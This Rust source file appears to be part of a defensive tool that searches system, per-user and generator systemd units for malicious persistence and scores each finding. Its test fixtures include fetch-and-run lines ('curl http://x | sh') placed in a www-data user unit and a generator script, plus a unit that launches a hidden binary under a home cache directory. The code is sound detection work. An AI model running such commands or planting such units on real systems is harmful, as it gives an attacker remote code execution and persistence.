//! A whole hunt: the system manager's units, every user manager's own units, and every
//! generator, judged.

use crate::dpkg::Dpkg;
use crate::enumerate::{enumerate, list_entries, read_regular, Fragment};
use crate::root::{generator_dirs, user_unit_path, Root, SYSTEM_UNIT_PATH};
use crate::score::{judge, judge_generator, Finding, Reason};

/// A user account with a home, from the root's `/etc/passwd`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Account {
    pub name: String,
    pub uid: u32,
    pub home: String,
    pub shell: String,
}

impl Account {
    /// A system account: below uid 1000, or one that cannot log in.
    pub fn is_system(&self) -> bool {
        self.uid < 1000 || self.shell.ends_with("nologin") || self.shell.ends_with("/false")
    }
}

/// Accounts of the root's `/etc/passwd` (malformed lines skipped).
pub fn accounts(root: &Root) -> Vec<Account> {
    let Ok(bytes) = read_regular(root, "/etc/passwd", 16 << 20) else {
        return Vec::new();
    };
    String::from_utf8_lossy(&bytes)
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            if f.len() < 7 {
                return None;
            }
            Some(Account {
                name: f[0].to_string(),
                uid: f[2].parse().ok()?,
                home: f[5].to_string(),
                shell: f[6].to_string(),
            })
        })
        .filter(|a| a.home.starts_with('/') && a.home != "/")
        .collect()
}

/// Everything found under `root`.
pub fn hunt(root: &Root) -> (Vec<Finding>, bool) {
    let db = Dpkg::load(root);
    let system: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
    let mut findings = judge(root, &db, &enumerate(root, &system));
    // User managers: only each user's own directories (home, runtime), so that the shared ones
    // (/etc/systemd/user, /usr/lib/systemd/user) are judged once, as the first user's.
    let mut shared_done = false;
    for a in accounts(root) {
        let path = user_unit_path(&a.home, a.uid);
        let own: Vec<String> = path
            .iter()
            .filter(|d| d.starts_with(&a.home) || d.starts_with(&format!("/run/user/{}/", a.uid)))
            .cloned()
            .collect();
        let dirs = if shared_done {
            own.clone()
        } else {
            path.clone()
        };
        let units = enumerate(root, &dirs);
        if units.is_empty() {
            continue;
        }
        shared_done = true;
        for mut f in judge(root, &db, &units) {
            let in_home = own.iter().any(|d| f.fragment.starts_with(d.as_str()));
            f.manager = format!("user {}", a.name);
            if in_home
                && a.is_system()
                && units
                    .iter()
                    .any(|u| u.name == f.unit && matches!(u.fragment, Fragment::File(_)))
            {
                f.reasons.push(Reason {
                    weight: 20,
                    text: format!(
                        "a user unit of the system account {} (uid {})",
                        a.name, a.uid
                    ),
                });
            }
            findings.push(f);
        }
    }
    for dir in generator_dirs() {
        let Ok(resolved) = root.resolve(&dir) else {
            continue;
        };
        for name in list_entries(&resolved.host) {
            findings.push(judge_generator(root, &db, &format!("{dir}/{name}")));
        }
    }
    (findings, !db.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn users_and_generators_are_hunted_too() {
        let tree = crate::testtree::Tree::new("hunt");
        let b = &tree.0;
        let put = |p: &str, text: &str| tree.file(p, text);
        put(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\neve:x:1001:1001::/home/eve:/bin/bash\nbroken line\n",
        );
        put(
            "/home/eve/.config/systemd/user/agent.service",
            "[Service]\nExecStart=/home/eve/.cache/.a/agent\n",
        );
        put(
            "/var/www/.config/systemd/user/w.service",
            "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n",
        );
        put(
            "/usr/local/lib/systemd/system-generators/gen",
            "#!/bin/sh\ncurl -s http://x/u | sh\n",
        );
        let root = Root::new(b);
        assert_eq!(accounts(&root).len(), 3);
        let (findings, has_db) = hunt(&root);
        assert!(!has_db);
        let get = |m: &str, u: &str| {
            findings
                .iter()
                .find(|f| f.manager == m && f.unit == u)
                .unwrap_or_else(|| panic!("{m} {u}: {findings:#?}"))
        };
        let agent = get("user eve", "agent.service");
        assert!(
            agent.reasons.iter().any(|r| r.text.contains("hidden")),
            "{:?}",
            agent.reasons
        );
        let www = get("user www-data", "w.service");
        assert!(www
            .reasons
            .iter()
            .any(|r| r.text.contains("system account www-data")));
        assert_eq!(www.severity(), "critical");
        let gen = get("generator", "gen");
        assert!(
            matches!(gen.severity(), "high" | "critical"),
            "{:?}",
            gen.reasons
        );
        assert!(
            gen.reasons
                .iter()
                .any(|r| r.text.contains("downloads and runs")),
            "{:?}",
            gen.reasons
        );
    }
}
